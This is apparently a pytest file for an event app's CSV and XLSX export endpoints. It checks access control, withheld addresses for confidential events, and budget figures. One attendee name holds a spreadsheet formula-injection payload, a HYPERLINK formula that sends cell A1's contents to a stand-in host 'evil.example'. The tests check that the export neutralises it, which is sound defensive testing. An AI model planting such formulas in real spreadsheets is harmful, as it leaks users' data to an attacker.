"""Spreadsheet exports over HTTP: who may take them, what a confidential event withholds, and files that
open safely (BOM, leading zeros, no formulas) as CSV and as XLSX read back with openpyxl."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from openpyxl import load_workbook
from temporalio.testing import WorkflowEnvironment

from api.auth import hash_token
from convene.spreadsheet import BOM
from definitions import Registry
from tests.api.conftest import Api, api_on, auth, tokens_json
from tests.support import RecordingActivities

PR = "pr_communications"
OUTSIDER = "token-outsider-board-member"
HEADERS = {"Authorization": f"Bearer {OUTSIDER}"}
SNEAKY = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


@pytest_asyncio.fixture
async def api(dev_env: WorkflowEnvironment, task_queue: str, stand_ins: RecordingActivities,
              tmp_path: Path) -> AsyncIterator[Api]:
    """The API of tests/api/conftest.py, with one more principal: a board member, an outsider to conferences."""
    tokens = json.loads(tokens_json())
    tokens["principals"].append({"id": "obi", "name": "Obi", "roles": ["board_member"],
                                 "tokens": [hash_token(OUTSIDER)]})
    async with api_on(dev_env, task_queue, stand_ins, f"sqlite+aiosqlite:///{tmp_path / 'convene.db'}",
                      tokens=json.dumps(tokens)) as it:
        yield it


async def _event_with_people(api: Api) -> str:
    event_id = await api.start()
    await api.do(PR, f"/events/{event_id}/attendees", {"attendees": [
        {"id": "007", "name": "Bond", "email": "bond@example.org", "needs": ["accessibility"]},
        {"id": "ann", "name": SNEAKY, "email": "ann@example.org", "needs_note": "+86 138 0013 8000"},
        {"id": "li", "name": "李小龍", "email": "li@example.org", "category": "partner"},
    ]})
    await api.ready(event_id)
    await api.do(PR, f"/events/{event_id}/attendees/007/rsvp", {"response": "yes"})
    deadline = asyncio.get_running_loop().time() + 20  # the invitations go out beside the answer: wait for
    while (await api.roster.invitation_progress(event_id)).pending:  # them, so two exports read the same rows
        assert asyncio.get_running_loop().time() < deadline, "invitations never went out"
        await asyncio.sleep(0.05)
    return event_id


def _csv(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM))))


async def test_attendees_as_csv_open_in_excel_as_written(api: Api):
    """A viewer's CSV starts with a BOM, keeps 007 and Chinese names, neutralises formulas, says RSVPs."""
    event_id = await _event_with_people(api)
    r = await api.http.get(f"/events/{event_id}/exports/attendees.csv", headers=auth("viewer"))
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"] == f'attachment; filename="{event_id}-attendees.csv"'
    rows = _csv(r.content)
    header, people = rows[0], {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert header[:3] == ["id", "name", "email"] and len(people) == 3
    bond = people['="007"']
    assert (bond["rsvp"], bond["needs"], bond["email"]) == ("yes", "accessibility", "bond@example.org")
    ann = people["ann"]
    assert ann["name"] == "'" + SNEAKY and ann["needs_note"] == "'+86 138 0013 8000"
    assert people["li"]["name"] == "李小龍" and people["li"]["category"] == "partner"


async def test_attendees_as_xlsx_read_back(api: Api):
    """The XLSX reads back with openpyxl: ids and formulas are text (quote-prefixed), times are dates."""
    event_id = await _event_with_people(api)
    r = await api.http.get(f"/events/{event_id}/exports/attendees.xlsx", headers=auth(PR))
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet.title == "Attendees"
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    by_id = {row[0].value: {h: c for h, c in zip(header, row, strict=True)} for row in rows[1:]}
    assert set(by_id) == {"007", "ann", "li"}
    assert by_id["007"]["id"].data_type == "s"
    name = by_id["ann"]["name"]
    assert (name.value, name.data_type, name.quotePrefix) == (SNEAKY, "s", True)
    assert by_id["li"]["name"].value == "李小龍"
    assert by_id["007"]["invited_at_utc"].is_date and by_id["007"]["key_client"].value is False


async def test_an_outsider_is_refused_and_bad_names_are_422(api: Api):
    """A principal who may not read the event gets what an unknown event gets (404), no token 401, an
    unknown kind or format 422."""
    event_id = await _event_with_people(api)
    unknown = (await api.http.get("/events/no-such-event/exports/budget.csv", headers=HEADERS)).json()
    for kind in ("attendees.csv", "deliveries.xlsx", "budget.csv"):
        r = await api.http.get(f"/events/{event_id}/exports/{kind}", headers=HEADERS)
        assert r.status_code == 404, r.text
        assert r.headers["content-type"] == "application/problem+json" and r.json() == unknown
    assert (await api.http.get(f"/events/{event_id}/exports/attendees.csv")).status_code == 401
    for bad in ("people.csv", "attendees.pdf", "attendees"):
        r = await api.http.get(f"/events/{event_id}/exports/{bad}", headers=auth("viewer"))
        assert r.status_code in (404, 422), (bad, r.status_code)
    assert (await api.http.get(f"/events/{event_id}/exports/people.csv", headers=auth("viewer"))).status_code == 422
    r = await api.http.get("/events/no-such-event/exports/attendees.csv", headers=auth("viewer"))
    assert r.status_code == 404


async def test_a_confidential_event_withholds_addresses(api: Api):
    """When the event's definition is confidential, attendee and email delivery addresses are withheld."""
    event_id = await _event_with_people(api)

    async def invitations_out() -> list[list[str]]:
        for _ in range(200):
            r = await api.http.get(f"/events/{event_id}/exports/deliveries.csv", headers=auth("viewer"))
            rows = _csv(r.content)[1:]
            if len([row for row in rows if row[1] == "invitation"]) == 3:
                return rows
            await asyncio.sleep(0.05)
        raise AssertionError(f"the invitations were never delivered: {rows}")

    open_rows = await invitations_out()
    assert {"bond@example.org", "ann@example.org", "li@example.org"} <= {row[3] for row in open_rows}

    state = api.app.state.convene
    conference = state.registry.get("conference")
    state.registry = Registry({"conference": conference.model_copy(update={"confidential": True})})
    r = await api.http.get(f"/events/{event_id}/exports/attendees.csv", headers=auth(PR))
    rows = _csv(r.content)
    assert {row[2] for row in rows[1:]} == {"withheld"}
    assert not any("@example.org" in cell for row in rows for cell in row)
    # the owner writes to these people: they see the addresses (api.auth.sees_contacts)
    r = await api.http.get(f"/events/{event_id}/exports/attendees.csv", headers=auth("project_manager"))
    assert {row[2] for row in _csv(r.content)[1:]} == {"bond@example.org", "ann@example.org", "li@example.org"}
    r = await api.http.get(f"/events/{event_id}/exports/deliveries.xlsx", headers=auth("viewer"))
    sheet = load_workbook(io.BytesIO(r.content)).active
    recipients = {row[3] for row in sheet.iter_rows(min_row=2, values_only=True) if row[2] == "email"}
    assert recipients == {"withheld"}


async def test_budget_planned_against_actual(api: Api):
    """The budget export lists each category's planned, actual and variance, then a total row, as numbers."""
    event_id = await api.start()
    await api.do("finance", f"/events/{event_id}/budget", {"lines": [
        {"category": "venue", "planned": "1000.00", "actual": "1200.50"},
        {"category": "catering", "planned": "500", "note": "-quote pending"},
    ]})
    r = await api.http.get(f"/events/{event_id}/exports/budget.xlsx", headers=auth("viewer"))
    assert r.status_code == 200, r.text
    rows: list[Any] = list(load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
    assert rows[0] == ("category", "currency", "planned", "actual", "variance", "variance_pct", "note")
    catering, venue, total = rows[1:]
    assert catering[:4] == ("catering", catering[1], 500, None) and catering[6] == "-quote pending"
    assert venue[2:6] == (1000, 1200.5, 200.5, 20.1)
    assert total[0] == "total" and total[2:4] == (1500, 1200.5)
    r = await api.http.get(f"/events/{event_id}/exports/budget.csv", headers=auth("viewer"))
    csv_rows = _csv(r.content)
    assert csv_rows[1][6] == "'-quote pending" and csv_rows[2][4] == "200.50"
    assert Decimal(csv_rows[3][2]) == Decimal("1500")


def test_the_export_route_documents_its_answers():
    """OpenAPI names the export's statuses and both media types."""
    from api import create_app
    from tests.api.conftest import api_settings

    op = create_app(api_settings("unused")).openapi()["paths"]["/events/{event_id}/exports/{kind}.{fmt}"]["get"]
    assert set(op["responses"]) == {"200", "401", "404", "409", "422", "503"}
    assert set(op["responses"]["200"]["content"]) == {
        "text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}


async def test_the_cli_writes_the_same_export(api: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """`convene events export ID attendees --format xlsx -o FILE` writes the rows the API serves; bad names exit 2."""
    from typer.testing import CliRunner

    from console import cli
    from convene.settings import get_settings

    event_id = await _event_with_people(api)
    monkeypatch.setenv("CONVENE_TEMPORAL_ADDRESS", api.env.client.service_client.config.target_host)
    monkeypatch.setenv("CONVENE_TEMPORAL_NAMESPACE", api.env.client.namespace)
    assert api.db is not None
    monkeypatch.setenv("CONVENE_DATABASE_URL", str(api.db.url.render_as_string(hide_password=False)))
    get_settings.cache_clear()
    out = tmp_path / "people.xlsx"
    try:
        args = ["events", "export", event_id, "attendees", "--format", "xlsx", "-o", str(out)]
        result = await asyncio.to_thread(CliRunner().invoke, cli.app, args)
        bad = await asyncio.to_thread(CliRunner().invoke, cli.app, ["events", "export", event_id, "people"])
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 0, result.output
    assert result.output.strip() == f"{out}: 3 rows"
    assert not list(tmp_path.glob("*.part"))
    rows = list(load_workbook(out).active.iter_rows(values_only=True))
    assert {r[0] for r in rows[1:]} == {"007", "ann", "li"}
    served = await api.http.get(f"/events/{event_id}/exports/attendees.xlsx", headers=auth("viewer"))
    assert list(load_workbook(io.BytesIO(served.content)).active.iter_rows(values_only=True)) == rows
    assert bad.exit_code == 2 and "unknown export 'people'" in bad.output


async def test_the_event_page_links_every_export(api: Api):
    """The event page offers each kind as CSV and XLSX, linking the API's export route."""
    r = await api.http.get("/ui/events/conf-9")
    assert r.status_code == 200
    for kind in ("attendees", "check-ins", "deliveries", "survey", "budget"):
        for fmt in ("csv", "xlsx"):
            assert f'href="/events/conf-9/exports/{kind}.{fmt}"' in r.text
            assert f'data-export="conf-9-{kind}.{fmt}"' in r.text
